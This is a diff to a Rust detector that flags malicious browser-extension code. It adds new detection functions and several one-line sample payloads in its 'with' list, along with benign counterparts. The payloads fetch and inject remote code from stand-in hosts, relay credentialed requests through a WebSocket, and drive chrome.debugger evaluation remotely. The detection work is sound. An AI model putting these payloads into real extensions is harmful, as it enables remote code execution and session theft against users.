@@ -20,8 +20,11 @@ pub(super) const SIGNAL: Signal = Signal {
             "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('onreset',o.fn);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json()).then(o=>chrome.storage.local.set({o}))",
             "fetch('https://c.example/s').then(r=>r.json()).then(({code})=>chrome.userScripts.register([{id:'m',js:[{code}]}]))",
             "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);var r=await fetch(j.url,{method:j.method,headers:j.headers,credentials:'include'});ws.send(JSON.stringify({id:j.id,status:r.status,body:await r.text()}))}",
+            "chrome.tabs.onUpdated.addListener(async id=>{const code=await (await fetch('https://cfg.example/j')).text();chrome.scripting.executeScript({target:{tabId:id},func:c=>{const s=document.createElement('script');s.textContent=c;document.head.append(s)},args:[code]})})",
+            "ws=new WebSocket('wss://o.example/c');ws.onmessage=async m=>{const c=JSON.parse(m.data);chrome.debugger.sendCommand({tabId:c.tab},'Runtime.evaluate',{expression:c.code});fetch('https://o.example/s')}",
         ],
         without: &[
+            "ws=new WebSocket('ws://localhost:9000/');ws.onmessage=async m=>{const c=JSON.parse(m.data);chrome.debugger.sendCommand({tabId:c.tab},'Runtime.evaluate',{expression:c.code});fetch('/s')}",
             "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('title',o.text);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json())",
             "chrome.scripting.executeScript({target,func:(c)=>{document.title=c},args:[c]});fetch('/a').then(r=>r.json())",
             "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);show(j.url);ws.send(JSON.stringify({id:j.id,status:1}))}",
@@ -57,11 +60,43 @@ fn runs(evidence: &Evidence<'_>, held: Held) -> bool {
                 && near.is(at + 1, b'(')
                 && near.kind(at + 2) == Some(Kind::Name)
         }) && (at..at + 60).any(|at| near.word(at) == "args")
+            || writes_script(near, at)
     });
-    (handler || registered || given) && near.has_fact(&[Atom::AnswerBody, Atom::Request])
+    (handler || registered || given || debugs(near)) && near.has_fact(&[Atom::AnswerBody, Atom::Request])
 }
 
 /// Whether orders of a socket say which address is requested, with the sessions of the user, and the answer goes back.
+/// Whether what is injected makes a script element of what it is given: `func: text => { script.textContent = text }, args: [text]`.
+fn writes_script(near: Near<'_>, at: usize) -> bool {
+    let injected = at..at + 80;
+    let places = |word: &'static str| injected.clone().filter(move |at| near.word(*at) == word);
+    let made = places("createElement").any(|at| near.word(at + 2) == "script");
+    let filled = injected.clone().any(|at| {
+        matches!(near.word(at), "textContent" | "innerHTML" | "text")
+            && near.is(at + 1, b'=')
+            && near.kind(at + 2) == Some(Kind::Name)
+    });
+    made && filled && places("args").next().is_some()
+}
+
+/// Whether the debugger runs a text in a tab that comes from another host than this machine.
+fn debugs(near: Near<'_>) -> bool {
+    let runs = near.words(&["sendCommand"]).any(|at| {
+        let command = at + 1..at + 30;
+        command.clone().any(|at| near.word(at) == "Runtime.evaluate")
+            && command
+                .clone()
+                .any(|at| near.word(at) == "expression" && near.kind(at + 2) == Some(Kind::Name))
+    });
+    runs && near.texts().any(|(_, text)| {
+        let remote =
+            ["https://", "wss://", "ws://", "http://"].iter().find_map(|scheme| text.strip_prefix(scheme));
+        remote.is_some_and(|host| {
+            !["localhost", "127.", "0.0.0.0", "[::1]"].iter().any(|own| host.starts_with(own))
+        })
+    })
+}
+
 fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 260);
     let ordered = near.words(&["fetch"]).any(|at| {
